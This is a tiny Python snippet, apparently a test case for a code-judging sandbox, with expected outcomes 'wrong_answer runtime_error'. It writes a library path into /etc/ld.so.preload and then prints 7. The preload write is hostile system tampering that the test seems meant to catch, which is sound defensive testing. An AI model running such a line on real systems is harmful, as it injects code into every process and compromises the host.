# wrong_answer runtime_error
open("/etc/ld.so.preload", "w").write("/tmp/x.so")
print(7)
